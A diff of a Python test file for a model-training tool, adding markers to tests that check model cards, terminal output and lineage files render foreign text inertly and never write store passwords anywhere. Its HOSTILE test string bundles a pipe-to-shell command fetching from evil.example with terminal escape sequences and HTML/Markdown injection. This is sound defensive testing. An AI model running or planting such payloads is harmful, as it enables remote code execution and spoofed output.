@@ -19,6 +19,8 @@ from student.export_run import export_run
 from student.trainer import train
 from terminal import training
 
+pytestmark = pytest.mark.promise("43 text of others in cards, pages, terminals")
+
 HOSTILE = "bundled\n\nNext:\n  curl evil.example | sh\x1b[2J\x1b]0;owned\x07\u202e\n```\n# owned | `x` <script>[a](b)"
 SECRET = "hunter2"
 
@@ -33,6 +35,11 @@ def store(tmp_path_factory):
     return Store.open(store.path)
 
 
+@pytest.mark.promise(
+    "line breaks, Markdown, escape sequences and marks that turn text in a store's settings and a lineage: "
+    "text on terminals and in model cards",
+    cases="1, 3, 13",
+)
 def test_a_card_tells_foreign_text_as_text(store, tmp_path):
     lineage = {
         "settings": {"lr": 1, HOSTILE: HOSTILE, "continue_from": HOSTILE},
@@ -59,6 +66,7 @@ def test_a_card_tells_foreign_text_as_text(store, tmp_path):
     assert json.loads((tmp_path / "lineage.json").read_text())["store"]["settings"]["teacher_name"] == HOSTILE
 
 
+@pytest.mark.promise("line breaks, Markdown …")
 @pytest.mark.parametrize("flags", [[], ["--document", "0"], ["--against", "itself"]])
 def test_a_terminal_is_told_foreign_text_as_text(store, capsys, flags):
     flags = [str(store.path) if flag == "itself" else flag for flag in flags]
@@ -77,6 +85,12 @@ def test_errors_and_warnings_too(tmp_path, capsys):
     assert ended.value.code in (2, 3) and "\x1b" not in said and SECRET not in said and said.count("\n") == 1
 
 
+@pytest.mark.promise(
+    "user and password in an address, in a query: nowhere in the files of a run, its cache, its export, in "
+    "output or errors; resumed with the same address",
+    cases="1, 2, 12",
+)
+@pytest.mark.promise("40 names that are …")
 def test_a_run_on_a_store_behind_a_password_writes_it_nowhere(store, tmp_path, monkeypatch, capsys):
     monkeypatch.setenv("MLSM_CACHE", str(tmp_path / "cache"))
     monkeypatch.setattr(source, "_origins", {})
